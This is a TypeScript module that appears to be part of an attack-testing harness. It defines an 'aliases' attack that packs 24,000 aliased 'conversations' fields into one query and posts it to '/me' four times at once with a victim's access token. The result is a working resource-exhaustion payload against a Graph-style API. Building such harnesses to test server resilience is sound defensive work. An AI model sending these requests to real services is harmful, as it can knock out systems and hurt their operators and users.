import type { Attack } from '../attack.ts';
import { sendMany } from '../sending.ts';

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };

/** One field under 24,000 names. */
const fields = Array.from({ length: 24_000 }, (_, i) => `conversations.as(c${i}){id}`).join(',');

export const aliases: Attack = {
  name: 'aliases',
  row: 'fields of 24,000 aliases, four at once',
  async run(victim) {
    const body = `method=GET&access_token=${victim.token}&fields=${fields}`;
    await sendMany(victim, 4, { method: 'POST', path: '/me', headers: FORM, body });
    return undefined;
  },
};
